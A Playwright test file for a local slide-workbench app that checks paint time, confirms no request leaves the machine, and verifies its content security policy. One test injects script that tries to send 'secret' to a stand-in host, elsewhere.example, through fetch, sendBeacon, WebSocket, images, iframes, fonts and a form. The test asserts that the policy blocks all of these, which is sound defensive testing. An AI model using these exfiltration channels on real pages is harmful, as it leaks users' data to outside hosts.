import { mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { chromium, expect, test, type BrowserContext, type Page } from '@playwright/test'
import { browserFlags, browserPath } from '../support/browser.ts'
import { isLong } from '../support/long.ts'
import { serveKaryon } from '../support/servedKaryon.ts'
import { address, madeUp } from './workbench.ts'

test.setTimeout(180_000) // ms; a browser that hangs is told within minutes

/** Longest first paint, ms: 1.5 s on a quiet machine, which only the long tests may count on. */
const firstPaint = isLong ? 1_500 : 15_000

/** What a browser asks its own maker, whatever page it shows: none of it is the page's to send or to stop. */
const browsersOwn =
  /\b(update|content-autofill|optimizationguide-pa|safebrowsing|clients\d?)\.googleapis\.com\b|\b(accounts|clients\d)\.google\.com\b/

/**
 * A proxy that lets nothing through and notes what was asked of it. A browser asks it for everything but this machine,
 * whoever in the browser asks: page, worker, style sheet or font.
 */
async function listenerAtTheDoor(): Promise<{ server: Server; url: string; asked: string[] }> {
  const asked: string[] = []
  const note = (what: string) => void (browsersOwn.test(what) || asked.push(what))
  const server = createServer((request, response) => {
    note(`${request.method} ${request.url}`)
    response.writeHead(502).end()
  })
  server.on('connect', (request, socket) => {
    note(`CONNECT ${request.url}`)
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked }
}

/** Runs `use` in a browser whose every way out ends at the listener. */
async function overheard(
  use: (at: { context: BrowserContext; page: Page; origin: string; asked: string[] }) => Promise<void>,
) {
  const folder = mkdtempSync(join(tmpdir(), 'karyon-e2e-'))
  const door = await listenerAtTheDoor()
  const karyon = await serveKaryon('--project', await madeUp(folder, 2_000, 0))
  const browser = await chromium.launch({
    executablePath: await browserPath(),
    args: [...browserFlags],
    proxy: { server: door.url, bypass: '127.0.0.1' },
  })
  try {
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, acceptDownloads: true })
    const page = await context.newPage()
    await page.goto(karyon.link)
    await use({ context, page, origin: new URL(karyon.link).origin, asked: door.asked })
  } finally {
    await browser.close()
    await karyon.close()
    door.server.close()
    rmSync(folder, { recursive: true, force: true })
  }
}

test('the page is painted soon after a fresh start (the long tests: within a second and a half)', async () => {
  await overheard(async ({ context, origin }) => {
    const paints: number[] = []
    for (let k = 0; k < (isLong ? 3 : 1); k++) {
      const page = await context.newPage()
      const session = await context.newCDPSession(page)
      await session.send('Network.setCacheDisabled', { cacheDisabled: true })
      await page.goto(address(origin))
      const paint = await page.evaluate(
        () =>
          new Promise<number>((resolve) =>
            new PerformanceObserver((list, observer) => {
              const [entry] = list.getEntriesByName('first-contentful-paint')
              if (!entry) return
              observer.disconnect()
              resolve(entry.startTime)
            }).observe({ type: 'paint', buffered: true }),
          ),
      )
      // What is painted is the workbench, not an empty frame.
      await expect(page.getByTestId('open-slide')).toBeVisible()
      paints.push(Math.round(paint))
      await page.close()
    }
    const best = Math.min(...paints)
    test.info().annotations.push({ type: 'first contentful paint, ms', description: paints.join(', ') })
    console.log(`First contentful paint: ${paints.join(', ')} ms`)
    expect(best).toBeGreaterThan(0)
    expect(best).toBeLessThanOrEqual(firstPaint)
  })
})

test('no request leaves the machine during a tour of the whole app', async () => {
  await overheard(async ({ context, page, origin, asked }) => {
    const urls: string[] = []
    context.on('request', (request) => urls.push(request.url()))
    page.on('websocket', (socket) => urls.push(socket.url()))
    page.on('worker', (worker) => urls.push(worker.url()))
    await page.goto(address(origin))
    page.on('download', (download) => urls.push(download.url()))
    await tour(page)
    const foreign = urls.filter((url) => {
      const inPage = /^(blob|data):/.exec(url)
      return inPage ? url.startsWith('blob:') && !url.startsWith(`blob:${origin}/`) : new URL(url).origin !== origin
    })
    expect(foreign).toEqual([])
    for (const part of ['/assets/', '/rpc/events', '/tiles/', '/chunks/', '/pictures/', '/thumbnail/', '/export/'])
      expect([part, urls.some((url) => url.includes(part))]).toEqual([part, true])
    expect(asked).toEqual([])
    await hears(context, asked)
  })
})

test('the content security policy stops an injected script from sending anything out', async () => {
  await overheard(async ({ context, page, origin, asked }) => {
    await page.goto(address(origin))
    await expect(page.getByTestId('open-slide')).toBeVisible()
    const blocked = await page.evaluate(async () => {
      const directives = new Set<string>()
      document.addEventListener('securitypolicyviolation', (event) => directives.add(event.effectiveDirective))
      const away = 'http://elsewhere.example/secret'
      const add = (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag)
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        document.body.append(element)
      }
      await fetch(away).catch(() => undefined)
      navigator.sendBeacon(away, 'secret')
      try {
        new WebSocket('ws://elsewhere.example/')
      } catch {
        // refused at once
      }
      new Image().src = away
      add('link', { rel: 'stylesheet', href: away })
      add('script', { src: away })
      add('iframe', { src: away })
      add('object', { data: away })
      add('video', { src: away })
      new FontFace('x', `url(${away})`).load().catch(() => undefined)
      const form = document.createElement('form')
      form.action = away
      document.body.append(form)
      form.submit()
      await new Promise((resolve) => setTimeout(resolve, 1_000))
      return [...directives].sort()
    })
    expect(blocked).toEqual([
      'connect-src',
      'font-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'object-src',
      'script-src-elem',
      'style-src-elem',
    ])
    expect(asked).toEqual([])
    await hears(context, asked)
  })
})

/** That the listener would have heard: it hears of a page from elsewhere. */
async function hears(context: BrowserContext, asked: string[]): Promise<void> {
  const page = await context.newPage()
  await page.goto('http://elsewhere.example/', { timeout: 10_000 }).catch(() => undefined)
  expect(asked).toContain('GET http://elsewhere.example/')
}

/** Every panel, tool, list, dialog and download once. */
async function tour(page: Page): Promise<void> {
  const stage = page.getByTestId('stage')
  const keys = async (...chords: string[]) => {
    for (const chord of chords) await page.keyboard.press(chord)
  }
  await expect(page.getByTestId('total')).toHaveText('2,000')
  for (const colour of ['probability', 'margin', 'entropy', 'agreement', 'source', 'class'])
    await page.getByTestId('colour-by').selectOption(colour)
  await stage.hover()
  await page.evaluate(() => (document.activeElement as HTMLElement).blur())
  await keys('Alt+4', 'PageUp', 'Shift+ArrowRight', 'Shift+ArrowUp', 'Home', '+', '+')
  for (const tool of ['B', 'L', 'C', 'S', 'D', 'R']) await keys(`Shift+${tool}`, 'Escape')
  const box = (await stage.boundingBox())!
  await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2)
  await keys('1', 'Control+Z', 'Shift+A')
  for (const tab of await page.getByRole('tab').all()) await tab.click()
  for (const format of ['geojson', 'geojson.gz', 'csv']) {
    const begun = page.waitForEvent('download', { timeout: 15_000 })
    await page.getByTestId(`export-${format}`).click()
    await begun
  }
  for (const tab of await page.getByRole('tab').all()) await tab.click()
  await page.getByRole('tab').first().click()
  await page.evaluate(() => (document.activeElement as HTMLElement).blur())
  for (const list of ['G', 'T', 'M'] as const) {
    await keys(`Shift+${list}`)
    await expect(page.getByTestId({ G: 'gallery', T: 'strip', M: 'map' }[list])).toBeVisible()
    if (list !== 'M') await expect(page.getByTestId('thumbnail').first()).toHaveAttribute('data-pictured', '')
  }
  const dialog = page.locator('dialog[open]')
  const closed = async () => {
    await keys('Escape')
    await expect(dialog).toHaveCount(0)
  }
  await keys('?')
  await expect(dialog).toBeVisible()
  await closed()
  await keys('Shift+P')
  await page.getByTestId('open-project').click()
  await expect(page.getByTestId('path')).toBeVisible()
  await closed()
  await page.getByTestId('open-slide').click()
  await expect(page.getByTestId('path')).toBeVisible()
  await closed()
  await page.getByTestId('language').selectOption('de')
  await page.getByTestId('theme').click()
  await page.waitForTimeout(1_000)
}
